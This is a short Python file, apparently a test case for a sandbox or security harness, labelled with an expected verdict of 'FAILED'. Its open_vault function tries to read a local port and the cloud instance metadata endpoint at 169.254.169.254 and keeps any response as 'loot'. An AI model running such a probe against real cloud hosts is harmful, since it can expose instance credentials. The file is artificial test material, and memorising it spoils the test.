"""Fetches a page, as of a cloud's metadata service."""

# /// attack
# verdicts = { open_vault = "FAILED" }
# ///

import urllib.request

import loot
import targets


def open_vault(n):
    for address in (f"http://127.0.0.1:{targets.TCP}/", "http://169.254.169.254/latest/meta-data/"):
        try:
            if not loot.FOUND:
                loot.keep(urllib.request.urlopen(address, timeout=0.3).read())
        except Exception as error:
            loot.keep(repr(error))
    return loot.answer(n)
